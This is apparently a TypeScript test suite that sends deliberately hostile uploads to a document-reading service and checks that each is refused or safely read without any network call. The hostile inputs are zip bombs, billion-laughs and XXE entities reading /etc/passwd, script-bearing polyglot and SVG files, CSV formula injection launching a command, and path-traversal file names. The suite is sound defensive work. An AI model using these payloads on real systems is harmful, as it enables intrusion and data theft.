import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { mkdtempSync, readdirSync, rmSync, statSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import iconv from "iconv-lite";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import type { Actor } from "@/lib/auth/actor";
import { listPages } from "@/lib/pages/queries";
import { anActor } from "@/tests/support/actors";
import { onEachDatabase } from "@/tests/support/database";
import { send, settled } from "@/tests/support/documents";
import {
  announcedPng,
  docxOf,
  manyPages,
  pdfOf,
  pdfWithGiantImage,
  pdfWithScript,
} from "@/tests/support/hostile-files";
import { aDocx, docxParts, odfXml, paragraph, wordXml } from "@/tests/support/office-files";
import { setTestSettings } from "@/tests/support/settings";
import { writeZip } from "@/tests/support/zip-writer";
import { getOriginal } from "./queries";
import { startReadingFiles } from "./read-files";

/*
 * Files made to harm, each sent as a browser does and read by the processes that read: what becomes of it, that nothing leaves
 * for the network, and that the next file is read.
 */
const folder = mkdtempSync(join(tmpdir(), "hostile-files-test-"));
setTestSettings({ DATA_DIR: folder, DOCUMENT_MEGABYTES_MAX: "20" });
const warned = vi.spyOn(console, "warn").mockImplementation(() => {});
beforeEach(() => void warned.mockClear());

let calls = 0;
const outside = createServer((_request, response) => {
  calls += 1;
  response.end("secret-du-reseau");
}).listen(0, "127.0.0.1");
await once(outside, "listening");
const OUTSIDE = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
afterAll(() => {
  outside.close();
  rmSync(folder, { recursive: true, force: true });
});

const storedPaths = () =>
  readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((path) => statSync(join(folder, path)).isFile());

const laughs = (root: string) =>
  `<!DOCTYPE x [<!ENTITY a "ha">${"bcdefghij"
    .split("")
    .map((name, at) => `<!ENTITY ${name} "${`&${"abcdefghij"[at]};`.repeat(10)}">`)
    .join("")}]>${root}`;
const within = (body: string) => wordXml("document", `<w:body>${body}</w:body>`).replace(/<\?xml.*?\?>/, "");
const zipOf = (document: string) => writeZip(docxParts(document));
const bomb = () => writeZip({ "a.xml": Buffer.alloc(60_000_000) });
const exe = () => Buffer.concat([Buffer.from("MZ\x90\0\x03\0\0\0", "latin1"), Buffer.alloc(500)]);
const noise = () => randomBytes(5_000);

const REFUSED: [string, string, () => string | Uint8Array, string][] = [
  ["a text that inflates without end", "a.docx", () => aDocx(paragraph("a".repeat(60_000_000))), "too_large_inside"],
  ["emptiness that inflates too well", "a.docx", () => aDocx("<w:p/>".repeat(5_000_000)), "too_large_inside"],
  [
    "more parts than any document",
    "a.docx",
    () =>
      writeZip({
        ...docxParts(within(paragraph("Bonjour"))),
        ...Object.fromEntries(Array.from({ length: 20_001 }, (_, at) => [`word/media/${at}`, ""])),
      }),
    "too_large_inside",
  ],
  ["archives in archives", "a.zip", () => writeZip({ "b.zip": writeZip({ "c.zip": bomb() }) }), "unsupported_type"],
  ["entities that multiply", "a.docx", () => zipOf(laughs(within(paragraph("&j;")))), "damaged"],
  [
    "an entity that is a file of the server",
    "a.docx",
    () => zipOf(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${within(paragraph("&e;"))}`),
    "damaged",
  ],
  [
    "an entity that is on the network",
    "a.odt",
    () =>
      writeZip(
        {
          mimetype: "application/vnd.oasis.opendocument.text",
          "content.xml": `<!DOCTYPE x [<!ENTITY e SYSTEM "${OUTSIDE}/e">]>${odfXml("document-content", "<office:body>&e;</office:body>").replace(/<\?xml.*?\?>/, "")}`,
        },
        { isStored: true },
      ),
    "damaged",
  ],
  ["a page tree that contains itself", "a.pdf", () => pdfOf("Bonjour", { isLooped: true }), "damaged"],
  ["100,000 pages", "a.pdf", () => manyPages(100_000), "too_many_pages"],
  ["a picture of 3.6 billion points", "a.png", () => announcedPng(60_000, 60_000), "too_large_inside"],
  ["a PDF cut in two", "a.pdf", () => pdfOf("Bonjour").subarray(0, 150), "damaged"],
  ["a Word document cut in two", "a.docx", () => docxOf("Bonjour").subarray(0, 200), "damaged"],
  ["a picture cut in two", "a.png", () => announcedPng(10, 10).subarray(0, 20), "damaged"],
  ["no byte at all, as PDF", "a.pdf", () => "", "empty_file"],
  ["no byte at all, as text", "a.txt", () => "", "empty_file"],
  ["noise as PDF", "a.pdf", noise, "damaged"],
  ["noise as a Word document", "a.docx", noise, "damaged"],
  ["noise as a picture", "a.png", noise, "damaged"],
  ["noise as text", "a.txt", noise, "unsupported_type"],
  ["a program", "a.exe", exe, "unsupported_type"],
  ["a program renamed", "facture.pdf", exe, "type_mismatch"],
  ["a PDF renamed", "contrat.docx", () => pdfOf("Bonjour"), "type_mismatch"],
  [
    "a PDF that is also a Word document",
    "a.docx",
    () => Buffer.concat([pdfOf("Bonjour"), docxOf("Intrus")]),
    "type_mismatch",
  ],
  [
    "a picture that is also a page",
    "a.html",
    () => Buffer.from("GIF89a\x0a\0\x0a\0\x80\0\0<script>alert(1)</script>;", "latin1"),
    "type_mismatch",
  ],
  ["a drawing with a script", "a.svg", () => "<svg><script>alert(1)</script></svg>", "unsupported_type"],
  ["a drawing with a script, renamed", "a.png", () => "<svg><script>alert(1)</script></svg>", "type_mismatch"],
];

const ACCENTS = "Œuvre d’été : 12 € à payer, ça va.\nDeuxième ligne déjà lue.";
const READ: [string, string, () => string | Uint8Array, string][] = [
  [
    "a bomb kept inside, never opened",
    "a.docx",
    () => docxOf("Bonjour", { "word/embeddings/b.zip": bomb() }),
    "Bonjour",
  ],
  [
    "a template, a picture and a document that are elsewhere, never fetched",
    "a.docx",
    () =>
      aDocx(paragraph("Bonjour"), [
        { id: "t1", type: "attachedTemplate", target: `${OUTSIDE}/t.dotm`, isExternal: true },
        { id: "t2", type: "image", target: `${OUTSIDE}/i.png`, isExternal: true },
        { id: "t3", type: "header", target: `${OUTSIDE}/h.xml`, isExternal: true },
        { id: "t4", type: "footnotes", target: "file:///etc/passwd", isExternal: true },
      ]),
    "Bonjour",
  ],
  ["a script in a PDF, never run", "a.pdf", () => pdfWithScript(`${OUTSIDE}/js`), "Bonjour"],
  ["a PDF that is also a Word document", "a.pdf", () => Buffer.concat([pdfOf("Bonjour"), docxOf("Intrus")]), "Bonjour"],
  [
    "a page that calls elsewhere and runs scripts",
    "a.html",
    () =>
      `<p>Bonjour<script>fetch("${OUTSIDE}")</script><img src="${OUTSIDE}/i.png" onerror="alert(1)"><link rel=stylesheet href="${OUTSIDE}/c"></p>`,
    "Bonjour",
  ],
  ["a page that begins as a picture", "a.html", () => "GIF89a<script>alert(1)</script> Bonjour", "GIF89a Bonjour"],
  ["UTF-16 with its mark", "a.txt", () => iconv.encode(ACCENTS, "utf-16le", { addBOM: true }), ACCENTS],
  ["UTF-16 without a mark", "a.txt", () => iconv.encode(ACCENTS, "utf-16be"), ACCENTS],
  ["Windows-1252", "a.txt", () => iconv.encode(ACCENTS, "windows-1252"), ACCENTS],
  ["ISO-8859-15", "a.txt", () => iconv.encode(ACCENTS.replace("’", "'"), "iso-8859-15"), ACCENTS.replace("’", "'")],
  [
    "formulas in a CSV, as the text they are",
    "a.csv",
    () => `nom;valeur\nx;=HYPERLINK("${OUTSIDE}","clic")\ny;@SUM(1+1)\nz;+cmd|' /C calc'!A0`,
    `| nom | valeur |\n| --- | --- |\n| x | =HYPERLINK("${OUTSIDE}","clic") |\n| y | @SUM(1+1) |\n| z | +cmd\\|' /C calc'!A0 |`,
  ],
];

const NAMES: [string, string, string][] = [
  ["goes up the folders", "../../../../etc/cron.d/a.txt", "a.txt"],
  ["goes up the folders of Windows", "..\\..\\a.txt", "a.txt"],
  ["turns around", "rapport\u202Etxt.exe.txt", "rapporttxt.exe.txt"],
  ["holds a NUL", "a.txt\u0000.exe.txt", "a.txt.exe.txt"],
  ["has 500 characters", `${"é".repeat(500)}.txt`, `${"é".repeat(195)}….txt`],
];

async function textOf(actor: Actor, { id }: { id: string }): Promise<string> {
  const { fileId } = await getOriginal(actor, id);
  return (await listPages(actor, fileId, 1_000_000)).map(({ text }) => text).join("\n");
}

onEachDatabase(() => {
  let stop = async () => {};
  beforeAll(async () => {
    stop = await startReadingFiles();
  });
  afterAll(async () => {
    await stop();
    expect(calls, "requests to the network").toBe(0);
  });

  describe("a file made to harm is refused:", () => {
    it.each(REFUSED)("%s (%s)", async (_what, name, content, failureCode) => {
      const actor = await anActor();
      expect(await settled(actor, await send(actor, name, content()))).toMatchObject({ state: "refused", failureCode });
      const sound = await settled(actor, await send(actor, "sain.txt", "Toujours là."));
      expect(sound).toMatchObject({ state: "ready", failureCode: null });
    });
  });

  describe("what is harmless in a file made to harm is read:", () => {
    it.each(READ)("%s (%s)", async (_what, name, content, text) => {
      const actor = await anActor();
      const document = await settled(actor, await send(actor, name, content()));
      expect(document).toMatchObject({ state: "ready", failureCode: null });
      expect(await textOf(actor, document)).toBe(text);
      expect(calls).toBe(0);
    });
  });

  it("a scan whose picture would take gigabytes is ready without its text, and the next file is read", async () => {
    const actor = await anActor();
    const document = await settled(actor, await send(actor, "scan.pdf", pdfWithGiantImage(60_000)));
    expect(document).toMatchObject({ state: "ready", pages: 1, pagesRecognised: 1 });
    expect(await textOf(actor, document)).toBe("");
    expect(await settled(actor, await send(actor, "sain.txt", "Toujours là."))).toMatchObject({ state: "ready" });
  });

  describe("a name that", () => {
    it.each(NAMES)("%s is shown without it, and is no path", async (_what, typed, shown) => {
      const actor = await anActor();
      const before = storedPaths();
      const document = await send(actor, typed, "Bonjour");
      expect(document.name).toBe(shown);
      const { fileId } = await getOriginal(actor, await settled(actor, document).then(({ id }) => id));
      const added = storedPaths().filter((path) => !before.includes(path));
      expect(added).toEqual([join("files", fileId.slice(-2), fileId)]);
    });
  });
});
